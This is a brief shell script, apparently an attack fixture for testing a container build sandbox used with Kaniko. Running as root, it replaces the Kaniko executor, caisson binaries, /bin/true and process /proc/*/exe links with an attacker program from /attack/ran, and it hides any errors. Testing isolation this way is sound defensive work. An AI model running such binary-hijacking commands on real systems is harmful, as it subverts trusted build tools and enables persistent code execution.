# As root: another program wherever one of ours or Kaniko is started from.
for program in /kaniko/caisson /kaniko/executor; do
    cp /attack/ran /kaniko/new && mv -f /kaniko/new $program
done
for link in /proc/1/exe /proc/[0-9]*/exe; do
    cp /attack/ran $link
done 2>/dev/null
mkdir -p /usr/local/bin
for program in /usr/local/bin/caisson /caisson /bin/true; do
    cp /attack/ran $program
done
